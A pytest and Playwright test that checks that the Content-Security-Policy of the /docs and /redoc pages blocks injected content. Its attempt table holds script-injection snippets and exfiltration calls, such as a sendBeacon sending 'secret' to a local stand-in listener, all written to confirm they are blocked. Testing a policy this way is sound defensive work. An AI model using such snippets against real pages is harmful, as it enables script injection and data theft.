"""What the pages' Content-Security-Policy lets nobody do, whatever somebody has got into a page."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import suppress

import pytest
from playwright.sync_api import BrowserContext, Page

# What is tried with the address of somebody else, and which part of the policy is to forbid it.
ATTEMPTS = {
    "document.body.append(Object.assign(document.createElement('script'), {src: url}))": "script-src-elem",
    "document.body.append(Object.assign(document.createElement('img'), {src: url}))": "img-src",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: url}))": "frame-src",
    "document.head.append(Object.assign(document.createElement('base'), {href: url}))": "base-uri",
    "fetch(url).catch(() => null)": "connect-src",
    "navigator.sendBeacon(url, 'secret')": "connect-src",
    "document.body.append(Object.assign(document.createElement('script'), {text: 'ran = true'}))": "script-src-elem",
    "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=\"ran = true\">')": "script-src-attr",
    "setTimeout('ran = true')": "script-src",
    # At last, since it would leave the page.
    "const form = Object.assign(document.createElement('form'), {action: url, method: 'post'});"
    "document.body.append(form); form.submit()": "form-action",
}
VIOLATE = """url => new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
    setTimeout(() => resolve("nothing"), 5000);
    %s;
})"""


@pytest.fixture
def attacked(context: BrowserContext) -> Page:
    """A page whose violations are what the test wants to see."""
    return context.new_page()


@pytest.fixture
def elsewhere() -> Iterator[str]:
    """Another address, where somebody listens who is to be told nothing."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0.2)
        yield f"http://127.0.0.1:{listening.getsockname()[1]}"
        # Chromium may connect ahead of a navigation that it then does not begin.
        with suppress(TimeoutError):
            connection, _ = listening.accept()
            with connection:
                connection.settimeout(0.2)
                assert connection.recv(1) == b""


@pytest.mark.parametrize("path", ["/docs", "/redoc"])
def test_nothing_runs_that_came_later_and_nothing_goes_elsewhere(attacked: Page, elsewhere: str, path: str) -> None:
    attacked.goto(path)
    found = {attempt: attacked.evaluate(VIOLATE % attempt, elsewhere) for attempt in ATTEMPTS}
    assert found == ATTEMPTS
    assert attacked.evaluate("window.ran") is None
